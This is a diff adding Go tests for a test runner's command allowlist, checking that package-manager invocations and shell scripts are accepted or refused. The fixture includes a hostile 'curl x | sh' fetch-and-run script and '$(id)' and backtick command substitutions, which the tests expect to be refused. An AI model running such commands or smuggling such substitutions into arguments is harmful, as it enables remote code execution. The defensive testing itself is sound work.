@@ -0,0 +1,121 @@
+package main
+
+import (
+	"os"
+	"path/filepath"
+	"slices"
+	"testing"
+)
+
+func TestPlanCommandAllowlist(t *testing.T) {
+	dir := t.TempDir()
+	pkg := `{"scripts": {"test": "jest --ci && eslint .", "lint": "eslint .", "evil": "curl x | sh", "quoted": "eslint \"$(id)\"", "path": "PATH=. jest", "env": "CI=1 jest"}}`
+	if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(pkg), 0644); err != nil {
+		t.Fatal(err)
+	}
+	runner := &TestRunner{RepoPath: dir, Allowed: []string{"npm", "npx", "pnpm", "yarn", "bun", "bunx", "jest", "eslint", "pytest"}}
+
+	tests := []struct {
+		command string
+		allowed bool
+	}{
+		{"npm test", true},
+		{"npm t", true},
+		{"npm run lint", true},
+		{"npm -s run lint", true},
+		{"npx jest", true},
+		{"npx --yes jest", true},
+		{"npm exec jest", true},
+		{"pnpm dlx jest", true},
+		{"yarn lint", true},
+		{"yarn run jest", true},
+		{"pnpm test", true},
+		{"bun test", true},
+		{"npm ci --ignore-scripts", true},
+		{"python3 -m pytest", true},
+
+		{"npm run evil", false},
+		{"npm run quoted", false},
+		{"npm ci", false},
+		{"yarn", false},
+		{"npm x evil", false},
+		{"npm exec evil", false},
+		{"pnpm exec evil", false},
+		{"yarn exec evil", false},
+		{"yarn dlx evil", false},
+		{"bun x evil", false},
+		{"bunx evil", false},
+		{"yarn node x.js", false},
+		{"bun x.js", false},
+		{"yarn run evil", false},
+		{"npx --package=evil jest", false},
+		{"npx -p evil jest", false},
+		{"npm exec -c evil", false},
+		{"npx ./node_modules/.bin/jest", false},
+		{"npm rebuild", false},
+		{"npm", false},
+		{"python3 -m evil", false},
+		{"./python -m pytest", false},
+		{"bin/python3 -m pytest", false},
+		{"npm run path", false},
+		{"npm run env", false},
+		{"make test", false},
+	}
+
+	for _, tt := range tests {
+		_, err := runner.planCommand(tt.command)
+		if tt.allowed && err != nil {
+			t.Errorf("planCommand(%q) refused: %v", tt.command, err)
+		}
+		if !tt.allowed && err == nil {
+			t.Errorf("planCommand(%q) allowed, want it refused", tt.command)
+		}
+	}
+}
+
+func TestPlanCommandWithoutAllowlist(t *testing.T) {
+	runner := &TestRunner{RepoPath: t.TempDir()}
+	for _, command := range []string{"npm x jest", "yarn node x.js", "npm ci", "make test"} {
+		if _, err := runner.planCommand(command); err != nil {
+			t.Errorf("planCommand(%q) without an allowlist refused: %v", command, err)
+		}
+	}
+}
+
+func TestSplitShellScript(t *testing.T) {
+	tests := []struct {
+		script  string
+		want    [][]string
+		wantErr bool
+	}{
+		{script: "jest --ci && eslint .", want: [][]string{{"jest", "--ci"}, {"eslint", "."}}},
+		{script: "a || b; c | d & e", want: [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}}},
+		{script: `eslint "src/**" 'a && b'`, want: [][]string{{"eslint", "src/**", "a && b"}}},
+		{script: `jest -t "it's"`, want: [][]string{{"jest", "-t", "it's"}}},
+		{script: `"ev"il`, want: [][]string{{"evil"}}},
+		{script: "echo $(id)", wantErr: true},
+		{script: `echo "$(id)"`, wantErr: true},
+		{script: "echo \"`id`\"", wantErr: true},
+		{script: "echo $HOME", wantErr: true},
+		{script: "jest > out", wantErr: true},
+		{script: "(cd x && jest)", wantErr: true},
+		{script: `jest "unterminated`, wantErr: true},
+	}
+
+	for _, tt := range tests {
+		got, err := splitShellScript(tt.script)
+		if tt.wantErr {
+			if err == nil {
+				t.Errorf("splitShellScript(%q) = %q, want an error", tt.script, got)
+			}
+			continue
+		}
+		if err != nil {
+			t.Errorf("splitShellScript(%q) failed: %v", tt.script, err)
+			continue
+		}
+		if !slices.EqualFunc(got, tt.want, slices.Equal[[]string]) {
+			t.Errorf("splitShellScript(%q) = %q, want %q", tt.script, got, tt.want)
+		}
+	}
+}